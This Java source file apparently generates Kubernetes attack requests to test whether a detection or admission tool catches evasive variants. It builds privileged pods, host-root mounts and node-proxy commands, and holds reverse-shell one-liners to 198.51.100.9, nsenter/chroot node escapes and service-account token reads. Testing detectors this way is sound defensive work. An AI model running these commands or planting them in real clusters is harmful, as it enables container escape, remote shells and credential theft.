package dev.crowsnest.evasion;

import static dev.crowsnest.evasion.Request.json;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.List;
import java.util.Random;

/** What asks for pods, and what goes into them. */
final class PodAttacks {
  private static final List<String> ESCAPES =
      List.of("nsenter -t 1 -m -u -i -n sh", "chroot /host sh", "nsenter --target 1 --all");
  private static final List<String> SHELLS =
      List.of(
          "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
          "mkfifo /tmp/f; nc 198.51.100.9 4444 < /tmp/f | sh > /tmp/f",
          "python3 -c 'import socket,pty;s=socket.socket();s.connect((\"198.51.100.9\",9));"
              + "pty.spawn(\"sh\")'");
  private static final List<String> READS =
      List.of(
          "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
          "cat /run/secrets/kubernetes.io/serviceaccount/token",
          "base64 /root/.kube/config");

  private PodAttacks() {}

  static List<Attack> all() {
    return List.of(
        new Attack("privileged pod", r -> pod("/spec/containers/0/securityContext/privileged")),
        new Attack("hostPID pod", r -> pod("/spec/hostPID")),
        new Attack("hostNetwork pod", r -> pod("/spec/hostNetwork")),
        new Attack("hostPath of the root", r -> hostPath()),
        new Attack("privileged template changed", PodAttacks::template),
        new Attack("privileged ephemeral container", r -> ephemeral()),
        new Attack("reverse shell as a container's command", PodAttacks::reverseShell),
        new Attack("mirror pod by hand", r -> mirrorPod()),
        new Attack("exec of a reverse shell", r -> exec(pick(SHELLS, r), "shop")),
        new Attack("exec that reads the token", r -> exec(pick(READS, r), "shop")),
        new Attack("exec that enters the node", r -> exec(pick(ESCAPES, r), "shop")),
        new Attack("exec or attach into kube-system", PodAttacks::intoSystem),
        new Attack("command by nodes/proxy", PodAttacks::nodeProxy));
  }

  static ObjectNode harmlessPod() {
    return json(
        """
        {'metadata': {'name': 'web', 'namespace': 'shop', 'labels': {'app': 'web'},
          'annotations': {'team': 'a'}},
         'spec': {'automountServiceAccountToken': true, 'securityContext': {'runAsNonRoot': true},
          'volumes': [{'name': 'v', 'emptyDir': {}}],
          'containers': [{'name': 'c', 'image': 'registry.example.com/shop/web:1.4',
            'resources': {}, 'securityContext': {'allowPrivilegeEscalation': false}}]}}
        """);
  }

  /** A pod in which a switch is set. */
  private static Request pod(String pointer) {
    ObjectNode pod = harmlessPod();
    Patches.set(pod, pointer, Request.JSON.getNodeFactory().booleanNode(true));
    return pod(pod, pointer);
  }

  private static Request pod(ObjectNode pod, String pointer) {
    return Request.write("pod", "create", Resource.PODS, pod).essence(pointer);
  }

  private static Request hostPath() {
    ObjectNode pod = harmlessPod();
    pod.withObject("/spec")
        .putArray("volumes")
        .add(json("{'name': 'v', 'hostPath': {'path': '/'}}"));
    return pod(pod, "/spec/volumes/0");
  }

  private static Request template(Random random) {
    Request request = pod("/spec/containers/0/securityContext/privileged");
    Templates.wrap(request, Templates.changeable(random));
    ObjectNode before = request.object.deepCopy();
    Patches.set(before, request.essence.get(0), Request.JSON.getNodeFactory().booleanNode(false));
    return request.existing(before);
  }

  private static Request ephemeral() {
    ObjectNode pod = harmlessPod();
    pod.withObject("/spec")
        .putArray("ephemeralContainers")
        .add(json("{'name': 'd', 'image': 'busybox', 'securityContext': {'privileged': true}}"));
    Request request = Request.write("ephemeral", "patch", Resource.PODS, pod);
    return request
        .on("ephemeralcontainers")
        .essence("/spec/ephemeralContainers/0")
        .existing(harmlessPod());
  }

  private static Request reverseShell(Random random) {
    ObjectNode pod = harmlessPod();
    ObjectNode container = (ObjectNode) pod.at("/spec/containers/0");
    String command = pick(SHELLS, random);
    if (random.nextBoolean()) {
      container.putArray("command").add("sh").add("-c").add(command);
      return pod(pod, "/spec/containers/0/command");
    }
    container.putArray("command").add("sh").add("-c");
    container.putArray("args").add(command);
    return pod(pod, "/spec/containers/0/args");
  }

  private static Request mirrorPod() {
    ObjectNode pod = harmlessPod();
    pod.withObject("/metadata/annotations").put("kubernetes.io/config.mirror", "abcd");
    pod.withObject("/spec").put("nodeName", "n1");
    Request request = pod(pod, "/metadata/annotations");
    request.isPodOnly = true;
    return request;
  }

  private static Request exec(String command, String namespace) {
    Request request = connect("exec", namespace);
    for (String word : List.of("sh", "-c", command)) {
      request.query.add("command=" + Addresses.encoded(word));
    }
    return request;
  }

  private static Request connect(String subresource, String namespace) {
    Request request = new Request("connect", "create", Resource.PODS);
    request.query.add("container=c");
    request.query.add("stdin=true");
    request.query.add("stdout=true");
    request.code = 101;
    return request.at(namespace, "web-0").on(subresource);
  }

  private static Request intoSystem(Random random) {
    return random.nextBoolean() ? exec("id", "kube-system") : connect("attach", "kube-system");
  }

  private static Request nodeProxy(Random random) {
    String node = pick(List.of("n1", "https:n1:10250", "n1:10250"), random);
    Request request = new Request("proxy", "create", Resource.NODES).at("", node).on("proxy");
    request.path = pick(List.of("/run", "/exec"), random) + "/kube-system/etcd-n1/etcd";
    request.query.add(request.path.startsWith("/run") ? "cmd=id" : "command=id&output=1");
    return request;
  }

  static <T> T pick(List<T> from, Random random) {
    return from.get(random.nextInt(from.size()));
  }
}
